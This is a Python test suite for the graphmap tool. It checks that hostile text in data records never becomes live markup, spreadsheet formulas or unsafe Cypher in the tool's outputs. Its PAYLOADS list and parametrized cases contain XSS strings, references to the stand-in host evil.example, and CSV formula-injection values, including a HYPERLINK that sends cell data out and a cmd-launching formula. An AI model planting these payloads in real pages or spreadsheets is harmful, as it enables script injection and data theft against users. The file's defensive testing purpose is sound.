"""Output safety: hostile text in every text field of every record type
never becomes markup, script or a network reference in any HTML page or
deck graphmap writes; CSV outputs never hand a spreadsheet a formula; the
saved Cypher uses parameters and the ontology's labels and types only.

The hostile dataset is generated from :mod:`graphmap.model`'s metadata, so
a new text field is covered without editing this file.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pytest

from graphmap import model as m
from graphmap.analyses import Finding, run_analyses
from graphmap.dataset import Dataset, check_dataset
from graphmap.graph import EDGE_TYPES, NODE_LABELS, build_graph

TODAY = dt.date(2026, 11, 21)
EVIL = "evil.example"

#: Text that would run, load or mislead if any output treated it as code.
PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=2">',
    "</script><script>window.__xss=3</script><!--",
    "javascript:window.__xss=4",
    "\\u003cscript\\u003ewindow.__xss=5\\u003c/script\\u003e",
    "{{constructor.constructor('window.__xss=6')()}} ${window.__xss=7} <%= 8 %>",
    "\u202egnp.exe\u202c \u2066RTL\u2069 \u200f",
    f"<a href='https://{EVIL}/a'>link</a><iframe src=//{EVIL}/f></iframe>",
    f"url(https://{EVIL}/a.png) @import 'https://{EVIL}/s.css'; <link rel=stylesheet href=//{EVIL}/s.css>",
    "<svg/onload=window.__xss=9><math><mtext></p><style><img src=x onerror=alert(10)>",
    "A" * 20_000 + "<b>tail</b>",
    f'=HYPERLINK("https://{EVIL}/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "]]><!-- --><![CDATA[ &amp; &lt;b&gt; &#x3C;script&#x3E;",
)
MARKUP_PAYLOADS = [p for p in PAYLOADS if "<" in p]


def hostile_dataset() -> Dataset:
    """The every-record-type dataset of the importer tests with every text
    field (every ``str`` field that is not an id or reference) set to a
    payload, cycling through :data:`PAYLOADS`."""
    from tests.test_importers import small_dataset

    base = small_dataset()
    out = Dataset()
    i = 0
    for rec in base:
        update: dict[str, Any] = {}
        for f in rec.fields():
            if f.kind == "str" and f.name != "id":
                update[f.name] = PAYLOADS[i % len(PAYLOADS)]
                i += 1
        out.add(type(rec).model_validate({**rec.model_dump(), **update}))
    assert check_dataset(out) == []
    assert i >= len(PAYLOADS), "every payload lands in a field"
    return out


def test_every_text_field_carries_a_payload() -> None:
    ds = hostile_dataset()
    text_fields = {
        (cls.label, f.name) for cls in m.RECORD_TYPES for f in cls.fields() if f.kind == "str" and f.name != "id"
    }
    stripped = {p.strip() for p in PAYLOADS}  # records strip surrounding white space
    filled = {
        (r.label, f.name)
        for r in ds
        for f in r.fields()
        if isinstance(getattr(r, f.name), str) and getattr(r, f.name) in stripped
    }
    assert text_fields and text_fields <= filled


@pytest.fixture(scope="module")
def hostile() -> tuple[Dataset, nx.MultiDiGraph, list[Finding]]:
    ds = hostile_dataset()
    g = build_graph(ds)
    findings = run_analyses(g, as_of=TODAY)
    assert findings
    return ds, g, findings


# ------------------------------------------------------------------- HTML


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


URL_ATTRS = ("src", "href", "action", "formaction", "srcset", "data", "poster", "xlink:href", "background", "ping")


def assert_safe_html(html: str, where: str) -> None:
    """No payload as markup, no event handler, no reference leaving the
    page, and a Content Security Policy that forbids loading anything."""
    for payload in MARKUP_PAYLOADS:
        assert payload not in html, (where, payload[:40])
    assert "<script>window.__xss" not in html
    page = _Page()
    page.feed(html)
    tags = [t for t, _ in page.tags]
    assert not {"object", "embed", "base", "form", "link", "svg", "math", "frame"} & set(tags), (where, tags)
    for tag, attrs in page.tags:
        if tag == "iframe":
            # the review embeds each map as a sandboxed inline document:
            # no src, scripts allowed but no same-origin access, and the
            # inner page held to the same rules
            assert "src" not in attrs and attrs.get("srcdoc"), (where, attrs.keys())
            sandbox = attrs.get("sandbox")
            assert sandbox is not None and "allow-same-origin" not in sandbox, (where, sandbox)
            assert_safe_html(attrs["srcdoc"] or "", f"{where} > embedded map")
    for tag, attrs in page.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name)
            if name in URL_ATTRS:
                assert (value or "").startswith(("data:image/", "#")), (where, tag, name, (value or "")[:60])
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            pytest.fail(f"{where}: meta refresh")
    for style in page.styles:
        assert "@import" not in style and EVIL not in style, where
        for url in re.findall(r"url\(\s*['\"]?([^'\")]*)", style):
            assert url.startswith("data:"), (where, url)
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert csp, where
    policy = csp.group(1).replace("&#x27;", "'").replace("&#39;", "'")
    assert "default-src 'none'" in policy, (where, policy)
    assert "http:" not in policy and "https:" not in policy and "*" not in policy, (where, policy)
    # the only script elements are graphmap's: inline, no src
    for tag, attrs in page.tags:
        if tag == "script":
            assert "src" not in attrs, where


def _views(g: nx.MultiDiGraph, findings: list[Finding]) -> dict[str, Any]:
    from graphmap.render import company_view, country_view, finding_view, org_view, path_view, tech_view

    views = {
        "company": company_view(g),
        "tech": tech_view(g, "T-1"),
        "country": country_view(g, "CN"),
        "org": org_view(g, "ORG-SUP"),
        "finding": finding_view(g, findings[0], findings),
    }
    try:
        views["path"] = path_view(g, findings, "T-1")
    except Exception as exc:  # no path in this small graph: say so, still test the others
        assert type(exc).__name__ in ("UnknownId", "NoPath", "InputError"), exc
    return views


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_every_map_view_is_inert(hostile: Any, lang: str) -> None:
    from graphmap.render import render_html

    _, g, findings = hostile
    for name, view in _views(g, findings).items():
        assert_safe_html(render_html(g, view, findings, lang=lang, as_of=TODAY), f"map {name} {lang}")


@pytest.fixture(scope="module")
def review(hostile: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    from graphmap.review.content import build_review
    from graphmap.review.snapshot import build_snapshot, save_snapshot
    from graphmap.workspace import save_dataset

    ds, _, _ = hostile
    ws = tmp_path_factory.mktemp("ws") / ".graphmap"
    save_dataset(ws, ds)
    save_snapshot(ws, build_snapshot(ds, "2026Q3", as_of=dt.date(2026, 9, 30)))
    save_snapshot(ws, build_snapshot(ds, "2026Q4", as_of=TODAY))
    return build_review(ws, "2026Q4", compare="2026Q3", lang="ja"), build_review(ws, "2026Q4", lang="en")


def test_review_report_is_inert(review: Any) -> None:
    from graphmap.review.report import render_report

    for r in review:
        html = render_report(r)
        assert_safe_html(html, "review report")
        # the names are on the page, as text
        assert any(escape(p) in html or escape(p, quote=False) in html for p in MARKUP_PAYLOADS)


def test_review_deck_has_no_external_reference(review: Any) -> None:
    from graphmap.review.deck import deck_bytes

    for r in review:
        with zipfile.ZipFile(io.BytesIO(deck_bytes(r))) as zf:
            names = zf.namelist()
            for name in names:
                data = zf.read(name)
                if name.endswith(".rels"):
                    root = ElementTree.fromstring(data)
                    for rel in root:
                        assert rel.get("TargetMode") != "External", (name, rel.attrib)
                        assert not re.match(r"[a-z]+:", rel.get("Target", "")), (name, rel.attrib)
                elif name.endswith(".xml"):
                    ElementTree.fromstring(data)  # well-formed: every payload escaped
                    text = data.decode("utf-8")
                    assert "<script" not in text and EVIL not in re.sub(r">[^<]*<", "><", text), name
            # no macros, embedded objects or scripts (python-pptx's printer settings part is inert)
            assert not any(n.endswith((".vba", ".js")) or "oleObject" in n or "vbaProject" in n for n in names)
            assert not any("embeddings/" in n or "activeX" in n for n in names)


# -------------------------------------------------------------------- CSV

FORMULA_START = tuple("=+-@\t\r")


def assert_no_formula(text: str, where: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) > 1, where
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            assert not cell.startswith(FORMULA_START), (where, r, c, cell[:40])


def test_findings_and_checklist_csv_are_formula_safe(hostile: Any) -> None:
    from graphmap.checklist import checklist_status
    from graphmap.report_text import checklist_csv, findings_csv

    _, g, findings = hostile
    for lang in ("ja", "en"):
        assert_no_formula(findings_csv(findings, lang), f"findings {lang}")
        assert_no_formula(checklist_csv(checklist_status(g, findings), lang), f"checklist {lang}")


def test_findings_csv_guards_text_that_starts_like_a_formula() -> None:
    """Finding messages usually start with a name in brackets; these start
    with the payloads themselves."""
    from graphmap.report_text import findings_csv

    findings = [
        Finding(
            id=f"x:{i}", analysis="sole_knowers", family="knowledge", checklist=["P4"], severity="high", score=50,
            subjects=["P-1"], message_ja=p.strip(), message_en=p,
        )
        for i, p in enumerate(PAYLOADS)
    ]  # fmt: skip
    for lang in ("ja", "en"):
        text = findings_csv(findings, lang)
        assert_no_formula(text, lang)
        for guarded in ("'=HYPERLINK", "'+cmd", "'-2+3", "'@SUM"):
            assert guarded in text, (lang, guarded)


def test_neo4j_csv_and_source_csv_are_formula_safe(hostile: Any, tmp_path: Path) -> None:
    from graphmap.neo4j_csv import write_neo4j_csv
    from importers import read_sources, write_source

    ds, g, _ = hostile
    export = write_neo4j_csv(g, tmp_path / "neo4j")
    for path in export.files:
        if path.suffix == ".csv":
            assert_no_formula(path.read_text("utf-8"), path.name)
    written = write_source(ds, tmp_path / "src")
    for path in written:
        assert_no_formula(path.read_text("utf-8-sig"), path.name)
    # and the guard is undone on import: the text comes back as written
    back, problems, _ = read_sources([tmp_path / "src"])
    assert problems == []
    assert {r.key(): r for r in back} == {r.key(): r for r in ds.sorted()}


def test_cli_csv_outputs_are_formula_safe(hostile: Any, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from graphmap.cli import app
    from importers import write_source

    ds, _, _ = hostile
    write_source(ds, tmp_path / "src")
    runner = CliRunner()
    env = {"GRAPHMAP_LANG": "en", "COLUMNS": "200"}
    for args, out in (
        (["analyze", "--format", "csv", "--as-of", "2026-11-21", "-o"], tmp_path / "f.csv"),
        (["checklist", "--format", "csv", "--as-of", "2026-11-21", "-o"], tmp_path / "c.csv"),
    ):
        res = runner.invoke(app, [*args, str(out), str(tmp_path / "src")], env=env)
        assert res.exit_code == 0, res.stderr
        assert_no_formula(out.read_text("utf-8-sig"), out.name)


# ------------------------------------------------------------------ Cypher

ROOT = Path(__file__).resolve().parent.parent
WRITE_CLAUSES = re.compile(
    r"\b(CREATE|MERGE|DELETE|DETACH|SET|REMOVE|DROP|LOAD\s+CSV|FOREACH)\b|\bapoc\.|\bdbms\.|\bdb\.create", re.I
)


def _strip(cypher: str) -> str:
    """Cypher without comments and string literals."""
    cypher = re.sub(r"//[^\n]*", "", cypher)
    return re.sub(r"'(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\"", "''", cypher)


def test_saved_cypher_is_read_only_parameterised_and_whitelisted() -> None:
    files = sorted((ROOT / "queries").rglob("*.cypher"))
    assert len(files) >= 10
    for path in files:
        body = _strip(path.read_text("utf-8"))
        assert not WRITE_CLAUSES.search(body), (path.name, WRITE_CLAUSES.search(body))
        for pattern in re.findall(r"\([^()\[\]]*\)", body):
            for label in re.findall(r"(?<![\w$.]):\s*([A-Za-z_][A-Za-z0-9_]*)", pattern):
                if label[0].isupper():
                    assert label in NODE_LABELS, (path.name, label)
        for rel in re.findall(r"\[[^\]]*\]", body):
            for types in re.findall(r"(?<![\w$.]):\s*([A-Z_|:!]+)", rel):
                for rtype in filter(None, re.split(r"[|:!]", types)):
                    assert rtype in EDGE_TYPES, (path.name, rtype)
        for label in re.findall(r"\b[a-z]\w*:([A-Z][A-Za-z]+)\b", body):
            assert label in NODE_LABELS or label in EDGE_TYPES, (path.name, label)
        # values come in as $parameters; the only literals are fixed words
        assert "+ $" not in body.replace(" ", " ") or "'' + $" not in body, path.name


def test_every_statement_graphmap_sends_is_built_from_whitelisted_names() -> None:
    from graphmap.neo4j import node_statement, relationship_statement, schema_statements

    statements = [*schema_statements()]
    statements += [node_statement(label) for label in NODE_LABELS]
    for cls in m.RECORD_TYPES:
        for f in cls.fields():
            if f.edge:
                for target in f.ref:
                    src, dst = (target, cls.label) if f.reverse else (cls.label, target)
                    if cls.label in NODE_LABELS:
                        statements.append(relationship_statement(f.edge, src, dst))
    for s in statements:
        for label in re.findall(r"\(\w*:([A-Za-z]+)", s):
            assert label in NODE_LABELS, s
        for rtype in re.findall(r"\[\w*:([A-Z_]+)\]", s):
            assert rtype in EDGE_TYPES, s
        assert "'" not in s and '"' not in s, s  # no literal values: everything else is $rows / $props


@pytest.mark.parametrize(
    "bad",
    [
        "<img src=x onerror=alert(1)>",
        f'<img src="https://{EVIL}/p.png">',
        f"<style>@import 'https://{EVIL}/s.css';</style>",
        f"<style>body{{background:url(//{EVIL}/a.png)}}</style>",
        f'<iframe src="https://{EVIL}/"></iframe>',
        '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="x"></iframe>',
        f'<a href="javascript:alert(1)">x</a><a href="https://{EVIL}/">y</a>',
    ],
)
def test_the_html_checker_catches_what_it_should(bad: str) -> None:
    ok = '<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src \'none\'"></head>'
    assert_safe_html(ok + "<body><p>x</p></body></html>", "ok")
    with pytest.raises(AssertionError):
        assert_safe_html(ok + f"<body>{bad}</body></html>", "bad")
    with pytest.raises(AssertionError):
        assert_safe_html("<!DOCTYPE html><html><body><p>no policy</p></body></html>", "no csp")
